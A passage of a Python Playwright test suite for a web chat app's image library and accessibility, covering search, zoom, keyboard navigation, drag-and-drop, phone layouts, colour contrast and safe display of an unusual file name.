    expect(dialog.locator("bdi")).to_contain_text(re.compile(rf"{STARS.name} · .+ · [\d.]+ % match"))
    natural = "async (e) => { await e.decode(); return e.naturalWidth; }"
    library.wait_for_function("() => document.querySelector('#zoom img').naturalWidth === 505")
    library.keyboard.press("ArrowRight")
    expect(dialog.locator("bdi")).not_to_contain_text(STARS.name)
    library.keyboard.press("ArrowLeft")
    library.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    expect(first).to_be_focused()
    option(library, "wide.png").click()
    library.wait_for_function("() => document.querySelector('#zoom img').naturalWidth === 2048")
    assert library.locator("#zoom img").evaluate(natural) == 2048
    button(library, "More like this").click()
    expect(library.get_by_role("option").first).to_have_attribute("title", "wide.png")
    expect(library.locator("#found small").first).to_have_text("1.000")


def test_library_does_not_move_while_pictures_load(library) -> None:
    held = []
    library.route("**/v1/library/thumbnail/**", lambda route: held.append(route))
    library.get_by_role("searchbox").fill("circles")
    library.get_by_role("option").first.wait_for()
    before = rows_of(library)
    for row in before:
        assert max(box["height"] for box in row) - min(box["height"] for box in row) < 1
    wide = option(library, "wide.png").bounding_box()
    assert wide["width"] / wide["height"] == pytest.approx(2, rel=0.01)
    library.route("**/v1/library/thumbnail/**", lambda route: route.continue_())
    for route in held:
        route.continue_()
    expect(library.locator("#found img[src]")).to_have_count(library.get_by_role("option").count())
    assert rows_of(library) == before
    library.route("**/v1/library/image/**", lambda route: held.append(route))
    option(library, "wide.png").click()
    image = library.locator("#zoom img")
    expect(image).to_have_js_property("naturalWidth", 320)
    box = image.bounding_box()
    assert box["width"] == pytest.approx(960, abs=1) and box["height"] == pytest.approx(480, abs=1)
    held[-1].continue_()
    expect(image).to_have_js_property("naturalWidth", 2048)
    assert image.bounding_box() == box


def test_library_pages_of_a_pdf(library) -> None:
    find(library, "three blue circles")
    page = option(library, "paper.pdf#2")
    page.click()
    expect(library.locator("#zoom img")).to_have_js_property("naturalHeight", 2048)
    library.keyboard.press("Escape")
    page.drag_to(library.locator("#form"))
    expect(library.locator("#waiting img")).to_have_count(1)
    assert names_waiting(library) == ["paper.pdf#2"]
    assert "circles" in answer(library, "What is this image?")


def test_library_hostile_name(library) -> None:
    find(library, "red")
    name = BAD_NAME.replace("\u202e", "\\u202e")
    expect(option(library, name)).to_have_count(1)
    assert library.locator("#found img").count() == library.get_by_role("option").count()
    option(library, name).click()
    expect(library.get_by_role("dialog").locator("bdi")).to_contain_text(name)
    assert library.locator("#zoom bdi *").count() == 0


def test_library_ask(library) -> None:
    find(library, "two red stars")
    library.get_by_role("option").first.click()
    button(library, "Ask about it").click()
    expect(library.get_by_role("dialog")).to_be_hidden()
    expect(library.locator("#waiting img")).to_have_count(1)
    expect(question(library)).to_be_focused()
    with library.expect_request(CHAT) as request:
        assert answer(library, "What is this image?") == "Two red stars on a yellow background."
    url = sent(request.value)["messages"][0]["content"][0]["image_url"]["url"]
    assert url.startswith("data:image/jpeg;base64,/9j/")
    expect(library.locator("#library")).to_be_hidden()
    expect(library.locator("#talk")).to_be_visible()
    library.go_back()
    expect(library.get_by_role("option").first).to_be_visible()
    expect(library.locator("#title")).to_have_text("Library")


def test_library_drag_into_the_chat(library) -> None:
    find(library, "stars")
    option(library, STARS.name).drag_to(library.locator("#form"))
    expect(library.locator("#waiting img")).to_have_count(1)
    for name in (CROSS.name, CIRCLES.name):
        option(library, name).locator(".check").click()
    option(library, CROSS.name).drag_to(library.locator("#form"))  # and with it whatever else is chosen
    expect(library.locator("#waiting img")).to_have_count(3)
    assert set(names_waiting(library)) == {STARS.name, CROSS.name, CIRCLES.name}
    assert library.get_by_role("option", selected=True).count() == 0
    transfer(library, "drop", CIRCLES)
    expect(library.locator("#waiting img")).to_have_count(4)
    assert library.locator("body.over").count() == 0


def test_library_selection_is_bounded(library) -> None:
    find(library, "circles")
    library.evaluate("model.max_images = 2")
    for name in (STARS.name, CROSS.name, CIRCLES.name):
        option(library, name).locator(".check").click()
    button(library, "Ask about 3 pictures").click()
    expect(library.get_by_role("alert")).to_contain_text("A question can have 2 images at most.")
    assert names_waiting(library) == []
    option(library, STARS.name).locator(".check").click()
    button(library, "Ask about 2 pictures").click()
    expect(library.locator("#waiting img")).to_have_count(2)
    expect(library.locator("#chosen")).to_be_hidden()
    expect(question(library)).to_have_attribute("placeholder", "What are these images?")


def test_library_by_keyboard(page) -> None:
    idle = {"name": "pictures", "pictures": 9, "updating": False}
    page.route("**/v1/library", lambda route: route.fulfill(json=idle))
    page.get_by_role("link", name="Library").click()
    expect(page.locator("#state")).to_have_text("9 pictures in pictures")
    find(page, "circles")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    all_items = page.get_by_role("option")
    expect(all_items.first).to_be_focused()
    outline = "e => getComputedStyle(e).outlineStyle + getComputedStyle(e).outlineWidth"
    assert all_items.first.evaluate(outline) == "solid2px"
    page.keyboard.press("ArrowRight")
    expect(all_items.nth(1)).to_be_focused()
    page.keyboard.press("Space")
    expect(all_items.nth(1)).to_have_attribute("aria-selected", "true")
    page.keyboard.press("Home")
    rows = rows_of(page)
    assert len(rows) > 2 and len(rows[0]) > 1
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowDown")
    middle = rows[0][1]["x"] + rows[0][1]["width"] / 2
    distances = [abs(box["x"] + box["width"] / 2 - middle) for box in rows[1]]
    expect(all_items.nth(len(rows[0]) + distances.index(min(distances)))).to_be_focused()
    for _ in rows:
        page.keyboard.press("ArrowUp")
    expect(all_items.first).to_be_focused()
    for _ in rows:
        page.keyboard.press("ArrowDown")
    expect(all_items.last).to_be_focused()
    page.keyboard.press("End")
    expect(all_items.last).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    expect(all_items.last).to_be_focused()
    assert page.locator("#found [tabindex='0']").count() == 1
    page.keyboard.press("Tab")
    expect(button(page, "Ask about 1 picture")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#waiting img")).to_have_count(1)


def test_library_states(page) -> None:
    """While it is updated, when nothing is found, and when something is wrong."""
    said = {"object": "library", "name": "pictures", "pictures": 3, "broken": 1, "changes": None, "error": None}
    said |= {"updating": True, "progress": {"read": 40, "total": 320}}
    page.route("**/v1/library", lambda route: route.fulfill(json=said))
    page.get_by_role("link", name="Library").click()
    state = page.locator("#state")
    expect(state).to_have_text("3 pictures in pictures, and 1 that cannot be read; reading 40 of 320")
    expect(state.get_by_role("progressbar")).to_have_js_property("value", 0.125)
    expect(button(page, "Look for new pictures")).to_be_disabled()
    page.route("**/v1/library/search", lambda route: route.fulfill(json={"data": []}))
    page.get_by_role("searchbox").fill("nothing like it")
    expect(page.get_by_role("heading", name="No pictures found")).to_be_visible()
    said |= {"updating": False, "progress": None, "error": "the folder does not exist at the moment"}
    expect(state).to_have_text("the folder does not exist at the moment")
    expect(state).to_have_attribute("data-wrong", "")
    said |= {"updating": True, "error": None}
    page.route("**/v1/library/update", lambda route: route.fulfill(json=said))
    button(page, "Look for new pictures").click()
    expect(state).to_have_text("3 pictures in pictures, and 1 that cannot be read; looking for new ones")
    expect(button(page, "Look for new pictures")).to_be_disabled()
    said |= {"updating": False, "notes": ["2 in iCloud only", "/a<b> cannot be listed"]}
    expect(button(page, "Look for new pictures")).to_be_enabled()
    notes = "2 in iCloud only; /a<b> cannot be listed"
    expect(state).to_have_text(f"3 pictures in pictures, and 1 that cannot be read; {notes}")
    page.unroute("**/v1/library/search")
    page.unroute("**/v1/library")
    page.get_by_role("searchbox").fill('"dog" + cat')
    expect(state).to_contain_text("in a sum, put a text in double quotes")
    page.route("**/v1/library/thumbnail/**", lambda route: route.fulfill(status=404, json={}))
    page.get_by_role("searchbox").fill("dog")
    expect(state).to_have_text(re.compile(r"^\d+ pictures in pictures"))
    expect(option(page, STARS.name)).to_be_visible()


def test_library_key(page) -> None:
    """Thumbnails are fetched with the key, as <img> could not."""

    def check(route) -> None:
        allowed = route.request.headers.get("authorization") == "Bearer secret"
        route.continue_() if allowed else route.fulfill(status=401, json={"error": {"message": "missing API key"}})

    page.route("**/v1/**", check)
    page.evaluate("sessionStorage.setItem('key', JSON.stringify('secret'))")
    page.goto(page.url.partition("#")[0] + "#library")
    page.reload()
    find(page, "two red stars")
    assert page.locator("#found img[src]").first.get_attribute("src").startswith("blob:")


def test_no_library(page) -> None:
    page.route("**/v1/models", lambda route: route.fulfill(json={"data": [{"id": "m", "library": None}]}))
    page.goto(page.url + "#library")
    page.reload()
    expect(page.locator("#model")).to_have_text("m")
    expect(page.get_by_role("link", name="Library")).to_be_hidden()
    expect(page.locator("#talk")).to_be_visible()
    expect(page.locator("#library")).to_be_hidden()


@pytest.mark.parametrize("width", [390, 320])
def test_library_on_a_phone(page, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 700})
    button(page, "Show the conversations").click()
    page.get_by_role("link", name="Library").click()
    expect(page.locator("#side")).to_be_hidden()
    find(page, "stars")
    option(page, STARS.name).locator(".check").click()
    for element in ("#library", "html"):
        assert page.locator(element).evaluate("e => e.scrollWidth <= e.clientWidth"), element
    box = option(page, STARS.name).locator(".check").bounding_box()
    assert min(box["width"], box["height"]) >= 24
    option(page, BAD_NAME.replace("\u202e", "\\u202e")).click()
    for name in ("Ask about it", "More like this", "Close"):
        box = button(page, name).bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= width and box["y"] + box["height"] <= 700, name


# Everyone can use it.


def test_by_keyboard(page) -> None:
    """Every control is reached by Tab, shows that it has the focus, and works from there."""
    expect(question(page)).to_be_focused()
    page.evaluate("Object.assign(document.body, {tabIndex: -1}).focus()")
    reached = []
    for _ in range(7):
        page.keyboard.press("Tab")
        name, outline = page.evaluate("""() => {
            const e = document.activeElement, style = getComputedStyle(e.id === "question" ? e.form : e);
            return [e.ariaLabel ?? e.textContent, `${style.outlineStyle} ${style.outlineWidth} ${style.borderColor}`];
        }""")
        reached.append(name)
        assert outline.startswith("solid 2px") or name == "Question", (name, outline)
    assert reached == [
        "New conversation",
        "Hide the conversations",
        "Library",
        "Settings",
        "Conversation",
        "Add images",
        "Question",
    ]
    quiet = page.locator("#form").evaluate("e => getComputedStyle(e).borderColor")
    page.keyboard.press("Tab")
    assert page.locator("#form").evaluate("e => getComputedStyle(e).borderColor") == quiet  # Ask is in it, too
    page.keyboard.press("Tab")
    assert page.locator("#form").evaluate("e => getComputedStyle(e).borderColor") != quiet

    question(page).focus()
    page.keyboard.type("What is")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("this?")
    expect(question(page)).to_have_value("What is\nthis?")
    answer_with(page, "Hi")
    page.keyboard.press("Enter")
    expect(page.locator(".markdown")).to_have_text("Hi")
    expect(question(page)).to_be_focused()
    button(page, "Settings").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_label("System prompt")).to_be_focused()
    page.keyboard.press("Escape")
    expect(button(page, "Settings")).to_be_focused()
    button(page, "Hide the conversations").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#side")).to_be_hidden()
    expect(button(page, "Show the conversations")).to_be_focused()
    page.reload()
    expect(page.locator("#side")).to_be_hidden()
    page.keyboard.press("Enter")


def test_roles(page) -> None:
    """Every control has a name, and what happens is said once."""
    drop(page, STARS)
    answer(page, "What is this image?")
    nameless = """() => [...document.querySelectorAll("button, input, textarea, a, img")].filter((e) =>
        e.checkVisibility() && ![e.ariaLabel, e.alt, e.textContent.trim(), e.labels?.[0]?.textContent].some(Boolean))
        .map((e) => e.outerHTML)"""
    assert page.evaluate(nameless) == []
    button(page, "Settings").click()
    assert page.evaluate(nameless) == []
    page.keyboard.press("Escape")
    expect(page.get_by_role("status").first).to_be_attached()
    expect(page.locator("#status")).to_have_text("Two red stars on a yellow background.")
    expect(page.get_by_role("main", name="Conversation")).to_be_visible()
    expect(page.get_by_role("complementary", name="Conversations")).to_be_visible()
    assert page.get_by_role("article").count() == 2


@pytest.mark.parametrize("width", [390, 320])
def test_phone(page, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 700})
    expect(page.locator("#side")).to_be_hidden()
    drop(page, STARS, CROSS, CIRCLES)
    answer_with(
        page, MARKDOWN + "\n" + "| wide |" * 20 + "\n" + "|--|" * 20 + "\n\n" + "x" * 500 + "\n```\n" + "y" * 500
    )
    answer(page, "a" * 300)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.locator("#talk").evaluate("e => e.scrollWidth <= e.clientWidth")
    for name in ("Ask", "Add images", "Settings", "Show the conversations"):
        box = button(page, name).bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= width and min(box["width"], box["height"]) >= 24, name
    button(page, "Show the conversations").click()
    expect(page.locator("#side")).to_be_visible()
    assert page.locator("#pane").evaluate("e => e.inert")
    page.keyboard.press("Escape")
    expect(page.locator("#side")).to_be_hidden()
    button(page, "Show the conversations").click()
    button(page, "New conversation").click()
    expect(page.locator("#side")).to_be_hidden()
    expect(page.locator("#empty")).to_be_visible()


def luminance(color: str) -> float:
    """Relative luminance of "rgb(r, g, b)", as WCAG 2 defines it."""
    channels = [int(value) / 255 for value in re.findall(r"\d+", color)[:3]]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_contrast(page, scheme: str) -> None:
    """Text stands out by 4.5 : 1 at least, in the light and in the dark."""
    page.emulate_media(color_scheme=scheme)
    answer_with(page, MARKDOWN)
    answer(page, "Hello")
    page.unroute(CHAT)
    refuse_with(page, 400, "no")
    ask(page, "Hello")
    page.locator(".error").wait_for()
    selectors = [
        "#title",
        "#model",
        "#chats a",
        ".human .text",
        ".markdown p",
        ".markdown a",
        ".markdown bdi",
        "blockquote",
    ]
    selectors += [".markdown p code", ".code div", ".figures", ".error", "#send", "#tune", "#new"]
    read = """(e) => {
        let behind = e;
        while (getComputedStyle(behind).backgroundColor === "rgba(0, 0, 0, 0)") behind = behind.parentElement;
        return [getComputedStyle(e).color, getComputedStyle(behind).backgroundColor];
    }"""
    for selector in selectors:
        front, back = sorted(map(luminance, page.locator(selector).first.evaluate(read)), reverse=True)
        assert (front + 0.05) / (back + 0.05) >= 4.5, selector
    page.get_by_role("link", name="Library").click()
    find(page, "stars")
    option(page, STARS.name).locator(".check").click()
    for selector in ("#state", "#to-library", "#query", "#found small", "#chosen button", "#chosen :last-child"):
        front, back = sorted(map(luminance, page.locator(selector).first.evaluate(read)), reverse=True)
        assert (front + 0.05) / (back + 0.05) >= 4.5, selector
    paper = page.locator("body").evaluate("e => getComputedStyle(e).backgroundColor")
    assert (luminance(paper) < 0.05) == (scheme == "dark")


def test_the_view_follows_unless_it_was_scrolled(page) -> None:
    page.evaluate(STREAMS)
    page.set_viewport_size({"width": 1000, "height": 400})
    ask(page, "Hello")
    gap = "() => { const e = document.querySelector('#talk'); return e.scrollHeight - e.clientHeight - e.scrollTop; }"
    page.evaluate("(text) => answers[0].say(text)", stream("line\n\n" * 40, ""))
    expect(page.locator(".markdown p")).to_have_count(40)
    page.evaluate("new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))")
    assert page.evaluate(gap) < 2
    page.locator("#talk").hover()
    page.mouse.wheel(0, -300)
    expect(button(page, "To the latest answer")).to_be_visible()
    page.evaluate("(text) => answers[0].say(text)", stream("line\n\n" * 40))
    finished(page)
    assert page.evaluate(gap) > 300
    button(page, "To the latest answer").click()
    expect(button(page, "To the latest answer")).to_be_hidden()
    assert page.evaluate(gap) < 2


def test_copy_without_a_clipboard(page) -> None:
    """As over plain http from another computer, where browsers have no navigator.clipboard."""
    answer_with(page, "Hi **there**")
    answer(page, "Hello")
    page.evaluate("""() => {
        window.clipboard = navigator.clipboard;
        Object.defineProperty(navigator, "clipboard", {value: undefined});
    }""")
    page.locator(".answer").get_by_role("button", name="Copy").click()
    expect(page.locator("#status")).to_have_text("Copied")
    assert page.evaluate("clipboard.readText()") == "Hi **there**"
